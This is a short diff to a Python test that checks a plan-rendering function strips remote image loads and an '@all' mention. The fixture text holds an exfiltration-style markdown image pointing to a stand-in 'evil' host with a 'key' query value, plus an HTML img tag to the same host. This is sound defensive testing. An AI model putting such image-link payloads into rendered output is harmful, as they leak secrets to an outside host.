@@ -132,9 +132,7 @@ def test_a_plan_loads_nothing_where_it_is_shown(
     plan = PlanWritten(iteration=1, text="# Plan\n![x](https://evil/?q=key) <img src=//evil> @all")
     run = SimpleNamespace(entries=SimpleNamespace(only=lambda _: [SimpleNamespace(event=plan)]))
     monkeypatch.setattr("cuggino.forge.describing._run_of", lambda *_: run)
-    describe = describing(
-        workspace, redact=lambda text: text, check_command="true", target=lambda: "main"
-    )
+    describe = describing(workspace, redact=lambda text: text, check_command="true", target="main")
     body = describe("s-00007.md", "a").body
     assert "# Plan" in body
     assert "evil" not in body
